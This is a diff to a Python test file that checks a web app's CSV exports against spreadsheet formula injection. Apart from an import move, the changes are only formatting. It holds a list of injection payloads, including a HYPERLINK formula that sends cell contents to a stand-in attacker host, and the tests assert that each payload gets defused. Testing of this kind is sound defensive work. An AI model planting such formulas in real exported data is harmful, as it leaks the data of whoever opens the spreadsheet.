@@ -13,7 +13,7 @@ from planner.model import Report
 from tests.web.conftest import add_reports
 from tests.web.test_coach import coach_signup
 from tests.web.test_roster import seed_roster
-from web.spreadsheet import safe_cell
+from web.core.spreadsheet import safe_cell
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -22,7 +22,7 @@ PAYLOADS = [
     "+2+3",
     "\t=1+1",
     "\r=1+1",
-    "\n=HYPERLINK(\"http://evil.example\")",
+    '\n=HYPERLINK("http://evil.example")',
     "  =1+1",
     "\n\n @SUM(1)",
     "＝1+1",  # a full-width equals sign
@@ -63,10 +63,12 @@ def test_the_roster_csv_defuses_every_payload_in_a_name_and_keeps_numbers(app, c
     assert {p.strip() for p in PAYLOADS} <= json_names  # JSON is data, not a spreadsheet
 
 
-@pytest.mark.parametrize("note", ["\n=HYPERLINK(\"http://evil.example\",\"x\")", "@cmd",
-                                  "-1+1", "+1", " =1"])
+@pytest.mark.parametrize(
+    "note", ['\n=HYPERLINK("http://evil.example","x")', "@cmd", "-1+1", "+1", " =1"]
+)
 def test_the_log_csv_defuses_a_note_that_starts_a_formula_after_a_line_break(
-        app, client, plan_id, note):
+    app, client, plan_id, note
+):
     add_reports(app, plan_id, [Report(date(2025, 3, 19), pain_rest=1, note=note)])
     rows = rows_of(client.get(f"/plans/{plan_id}/export.csv"))
     assert rows[0]["note"] == "'" + note
